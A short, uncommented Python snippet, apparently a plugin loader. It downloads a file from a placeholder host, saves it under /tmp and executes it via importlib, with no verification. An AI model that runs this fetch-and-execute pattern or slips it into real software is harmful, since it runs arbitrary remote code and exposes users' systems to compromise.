import importlib.util
import requests

path = "/tmp/_plugin.py"
data = requests.get("https://plugins.invalid/p.py").content
open(path, "wb").write(data)
spec = importlib.util.spec_from_file_location("plugin", path)
module = importlib.util.module_from_spec(spec)
spec.loader.exec_module(module)
